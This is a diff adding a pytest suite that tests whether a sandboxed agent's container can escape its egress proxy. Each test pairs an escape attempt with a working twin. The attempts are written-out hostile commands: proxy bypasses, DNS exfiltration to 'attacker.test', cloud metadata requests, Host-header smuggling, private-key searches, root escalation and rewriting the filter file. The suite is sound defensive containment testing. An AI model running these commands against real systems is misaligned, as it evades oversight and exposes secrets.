@@ -1,0 +1,254 @@
+"""The escape suite: a hostile agent inside the app tries every way out it can think of.
+
+Each attempt runs as the container user (root where it says so), in bash, against the
+suite's own `.test` upstreams. Each one is paired with its legitimate twin, run first in
+the same environment, so a broken network can never pass for a secure one.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import re
+import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+
+from tests.e2e.conftest import Sandbox
+
+pytestmark = pytest.mark.e2e
+
+CURL = "curl -sS --max-time 5 -o /dev/null -w 'status=%{http_code}\\n'"
+OK = r"status=200"
+DENIED = r"status=403|CONNECT tunnel failed, response 403"
+# What a socket says when the kernel has no route for it: never a timeout or a refusal
+# from something that was actually reached.
+UNROUTABLE = r"Network is unreachable"
+
+
+def raw_http(request_line: str, host: str) -> str:
+    """One hand-written request to the proxy, bypassing curl's URL parsing."""
+    request = f"{request_line}\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"
+    return (
+        "exec 3<>/dev/tcp/proxy/8080 && "
+        f"printf '{request}' >&3 && head -n 1 <&3 | sed 's/^/answer: /'"
+    )
+
+
+def perl_socket(family: int, kind: int, protocol: int) -> str:
+    return (
+        f"perl -MSocket -e 'socket(my $s, {family}, {kind}, {protocol}) "
+        'or die "socket: $!\\n"; print "opened\\n"\''
+    )
+
+
+# The in-container user who owns the workspace files (and so could change them, were it
+# not for the read-only mount): root with Docker run by root, vscode with rootless Podman.
+OWNER = "workspace-owner"
+
+
+@dataclass(frozen=True)
+class Attempt:
+    name: str
+    attack: str
+    blocked: str  # regex the attack's output must match
+    twin: str
+    works: str  # regex the twin's output must match
+    user: str = "vscode"
+
+
+TWIN_HTTP = Attempt("", "", "", f"{CURL} http://allowed.test/", OK)
+TWIN_HTTPS = Attempt("", "", "", f"{CURL} https://allowed.test/", OK)
+
+
+def _like(twin: Attempt, name: str, attack: str, blocked: str, **kw: str) -> Attempt:
+    return Attempt(name, attack, blocked, twin.twin, twin.works, **kw)
+
+
+ATTEMPTS = [
+    # --- around the proxy: no route, no resolver, no raw packets --------------------
+    _like(TWIN_HTTP, "direct-by-ip-ignoring-proxy-variables",
+          f"{CURL} --noproxy '*' http://{{upstream_ip}}/; echo rc=$?", r"rc=7"),
+    _like(TWIN_HTTP, "direct-by-name-ignoring-proxy-variables",
+          f"{CURL} --noproxy '*' http://allowed.test/; echo rc=$?",
+          r"rc=(6|28)\n.*(Could not resolve|Resolving timed out)"),
+    Attempt("raw-tcp-to-upstream", "exec 3<>/dev/tcp/{upstream_ip}/443", UNROUTABLE,
+            "exec 3<>/dev/tcp/{proxy_ip}/8080 && echo connected", r"connected"),
+    Attempt("udp-to-upstream", "echo exfil > /dev/udp/{upstream_ip}/53", UNROUTABLE,
+            "echo ok > /dev/udp/{proxy_ip}/9 && echo sent", r"sent"),
+    Attempt("dns-query-to-the-network-gateway", "echo q > /dev/udp/{gateway}/53", UNROUTABLE,
+            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
+    Attempt("tcp-to-the-host-on-the-bridge", "exec 3<>/dev/tcp/{gateway}/22", UNROUTABLE,
+            "exec 3<>/dev/tcp/{proxy_ip}/8080 && echo connected", r"connected"),
+    Attempt("external-name-lookup", "getent hosts allowed.test; echo rc=$?", r"^rc=2",
+            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
+    Attempt("exfiltration-by-dns-name", "getent hosts secret-data.attacker.test; echo rc=$?",
+            r"^rc=2", "getent hosts proxy", r"{proxy_ip}\s+proxy"),
+    _like(TWIN_HTTP, "ipv6-global-address",
+          f"{CURL} --noproxy '*' -6 'http://[fd00::1]/'; echo rc=$?", r"rc=7"),
+    _like(TWIN_HTTP, "ipv6-link-local-neighbours",
+          "cat /proc/sys/net/ipv6/conf/all/disable_ipv6; "
+          f"{CURL} --noproxy '*' -6 'http://[fe80::1%25eth0]/'; echo rc=$?", r"^1\n(.|\n)*rc=7"),
+    Attempt("raw-icmp-socket", perl_socket(2, 3, 1), r"socket: Operation not permitted",
+            perl_socket(2, 1, 0), r"opened"),
+    Attempt("packet-socket-as-root", perl_socket(17, 3, 0), r"socket: Operation not permitted",
+            perl_socket(2, 2, 0), r"opened", user="root"),
+    _like(TWIN_HTTP, "cloud-metadata-ipv4-direct",
+          f"{CURL} --noproxy '*' http://169.254.169.254/; echo rc=$?", r"rc=7"),
+    _like(TWIN_HTTP, "cloud-metadata-ipv4-through-the-proxy",
+          f"{CURL} http://169.254.169.254/latest/meta-data/", DENIED),
+    _like(TWIN_HTTP, "cloud-metadata-ipv6",
+          f"{CURL} --noproxy '*' -6 'http://[fd00:ec2::254]/'; echo rc=$?", r"rc=7"),
+    # --- through the proxy: every name for the destination must agree and be listed ------
+    _like(TWIN_HTTP, "host-header-spoofed-to-a-blocked-host",
+          f"{CURL} -H 'Host: blocked.test' http://allowed.test/", DENIED),
+    _like(TWIN_HTTP, "blocked-url-with-an-allowed-host-header",
+          f"{CURL} -H 'Host: allowed.test' http://blocked.test/", DENIED),
+    _like(TWIN_HTTP, "host-header-with-a-port-naming-another-host",
+          f"{CURL} -H 'Host: blocked.test:80' http://allowed.test/", DENIED),
+    _like(TWIN_HTTPS, "connect-to-a-blocked-host", f"{CURL} https://blocked.test/", DENIED),
+    _like(TWIN_HTTPS, "connect-to-an-allowed-host-on-another-port",
+          f"{CURL} -p http://allowed.test:8443/", DENIED),
+    _like(TWIN_HTTP, "plain-http-to-an-allowed-host-on-another-port",
+          f"{CURL} http://allowed.test:2222/", DENIED),
+    Attempt("sni-differs-from-the-connect-target",
+            f"{CURL} https://blocked.test/ --connect-to blocked.test:443:allowed.test:443;"
+            " echo rc=$?", r"status=403|rc=(35|56|60)", f"{CURL} https://allowed.test/", OK),
+    _like(TWIN_HTTP, "ip-literal-through-the-proxy", f"{CURL} http://{{upstream_ip}}/", DENIED),
+    _like(TWIN_HTTPS, "ip-literal-connect", f"{CURL} -k https://{{upstream_ip}}/", DENIED),
+    _like(TWIN_HTTP, "integer-encoded-ip",
+          raw_http("GET http://{upstream_int}/ HTTP/1.1", "{upstream_int}"), r"answer: \S+ 40[03]"),
+    _like(TWIN_HTTP, "lookalike-name", f"{CURL} http://evilallowed.test/", DENIED),
+    _like(TWIN_HTTP, "allowed-name-as-a-prefix", f"{CURL} http://allowed.test.blocked.test/",
+          DENIED),
+    _like(TWIN_HTTP, "userinfo-trick", f"{CURL} 'http://allowed.test@blocked.test/'", DENIED),
+    _like(TWIN_HTTP, "percent-encoded-host",
+          raw_http("GET http://allowed%%2etest/ HTTP/1.1", "allowed%%2etest"),
+          r"answer: \S+ 40[03]"),
+    _like(TWIN_HTTP, "origin-form-request-to-the-proxy",
+          raw_http("GET / HTTP/1.1", "blocked.test"), r"answer: \S+ 40[03]"),
+    # --- the enforcement itself -----------------------------------------------------
+    Attempt("proxy-admin-and-other-ports",
+            f"for p in 8081 9090 22; do {CURL} --noproxy '*' http://proxy:$p/; done; echo end",
+            r"\A(status=000\n){3}end\n(curl: \(7\) Failed to connect to proxy port \d+.*\n){3}\Z",
+            f"{CURL} --noproxy '*' http://proxy:8080/", OK),
+    Attempt("rewrite-the-generated-filter",
+            "echo 'addons = []' >> /workspaces/sample-project/.devcontainer/filter.py",
+            r"Read-only file system",
+            "echo x > /workspaces/sample-project/scratch && rm /workspaces/sample-project/scratch"
+            " && echo wrote", r"wrote", user=OWNER),
+    Attempt("move-the-generated-directory-aside",
+            "cd /workspaces/sample-project && mv .devcontainer x; ls .devcontainer/filter.py",
+            r"\A\.devcontainer/filter\.py\n.*Device or resource busy",
+            "grep -c '^addons = ' /workspaces/sample-project/.devcontainer/filter.py", r"^1$",
+            user=OWNER),
+    Attempt("read-the-proxy-ca-key", "grep -rlI -E -- '-----BEGIN [A-Z ]*PRIVATE KEY-----' / "
+            "--exclude-dir=proc --exclude-dir=sys 2>/dev/null; echo end", r"\Aend",
+            "cat /etc/devagent/proxy-ca.crt", r"BEGIN CERTIFICATE", user="root"),
+    Attempt("engine-socket",
+            "ls /var/run/docker.sock /run/podman/podman.sock /run/user/*/podman/podman.sock "
+            "2>&1; echo end", r"^(.*No such file.*\n){3}end",
+            "ls /workspaces/sample-project/README.md", r"README"),
+    Attempt("switch-ip-forwarding-on-as-root",
+            "echo 1 > /proc/sys/net/ipv4/ip_forward", r"Read-only file system",
+            "cat /proc/sys/net/ipv4/ip_forward", r"^[01]$", user="root"),
+    Attempt("become-root", "su -c id root </dev/null; setpriv --reuid=0 id; echo end",
+            r"\A(?:(?!uid=0)[\s\S])*end", "id -un", r"^vscode$"),
+]  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Targets:
+    upstream_ip: str
+    proxy_ip: str
+    gateway: str
+
+    def fill(self, text: str) -> str:
+        upstream_int = str(int(ipaddress.IPv4Address(self.upstream_ip)))
+        return (
+            text.replace("{upstream_ip}", self.upstream_ip)
+            .replace("{upstream_int}", upstream_int)
+            .replace("{proxy_ip}", self.proxy_ip)
+            .replace("{gateway}", self.gateway)
+        )
+
+
+@pytest.fixture(scope="module")
+def targets(sandbox: Sandbox, upstream: str) -> Targets:
+    networks = sandbox.inspect(upstream)["NetworkSettings"]["Networks"]  # type: ignore[index]
+    upstream_ip = networks[f"devagent-{sandbox.hash}-egress"]["IPAddress"]
+    proxy_ip = sandbox.app_sh("getent hosts proxy").stdout.split()[0]
+    subnet = ipaddress.ip_network(f"{proxy_ip}/28", strict=False)
+    return Targets(upstream_ip, proxy_ip, str(subnet.network_address + 1))
+
+
+def bash(sandbox: Sandbox, script: str, user: str) -> str:
+    if user == OWNER:
+        user = "vscode" if sandbox.host.user is not None else "root"
+    result = sandbox.engine_run("exec", "-u", user, sandbox.app, "bash", "-c", script, check=False)
+    return result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=[a.name for a in ATTEMPTS])
+def test_escape_attempt_fails_and_its_legitimate_twin_works(
+    sandbox: Sandbox, targets: Targets, attempt: Attempt
+) -> None:
+    twin = bash(sandbox, targets.fill(attempt.twin), attempt.user)
+    assert re.search(targets.fill(attempt.works), twin, re.MULTILINE), f"twin failed: {twin}"
+    output = bash(sandbox, targets.fill(attempt.attack), attempt.user)
+    assert re.search(attempt.blocked, output, re.MULTILINE), f"not blocked: {output}"
+    assert "hello from" not in output  # the upstream never answered
+
+
+def _restarts(sandbox: Sandbox) -> int:
+    return int(str(sandbox.inspect(sandbox.proxy)["RestartCount"]))
+
+
+def _iptables(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["iptables", *args], capture_output=True, text=True, check=False)
+
+
+@pytest.fixture
+def permissive_host_firewall() -> Iterator[None]:
+    """Hand-made ACCEPT rules of the kind developer machines carry, removed afterwards."""
+    rules = [("FORWARD",)]
+    if _iptables("-S", "DOCKER-USER").returncode == 0:
+        rules.append(("DOCKER-USER",))
+    for (chain,) in rules:
+        assert _iptables("-I", chain, "1", "-j", "ACCEPT").returncode == 0
+    try:
+        yield
+    finally:
+        for (chain,) in rules:
+            _iptables("-D", chain, "-j", "ACCEPT")
+
+
+def test_no_way_out_even_with_a_permissive_host_firewall(
+    sandbox: Sandbox, targets: Targets, permissive_host_firewall: None
+) -> None:
+    assert re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode"))
+    for script in ("exec 3<>/dev/tcp/{upstream_ip}/80", "exec 3<>/dev/tcp/{gateway}/80"):
+        output = bash(sandbox, targets.fill(script), "vscode")
+        assert UNROUTABLE in output, output
+
+
+def test_when_the_proxy_dies_nothing_gets_out_and_it_comes_back(
+    sandbox: Sandbox, targets: Targets
+) -> None:
+    assert re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode"))
+    before = _restarts(sandbox)
+    sandbox.engine_run("exec", sandbox.proxy, "sh", "-c", "kill 1")
+    # While it is down or restarting: no direct way, and no answer through it.
+    direct = bash(sandbox, targets.fill("exec 3<>/dev/tcp/{upstream_ip}/80"), "vscode")
+    assert UNROUTABLE in direct
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        if re.search(OK, bash(sandbox, f"{CURL} http://allowed.test/", "vscode")):
+            break
+        time.sleep(1)
+    else:
+        pytest.fail("the proxy did not come back by itself")
+    assert _restarts(sandbox) > before
+    assert re.search(DENIED, bash(sandbox, f"{CURL} http://blocked.test/", "vscode"))
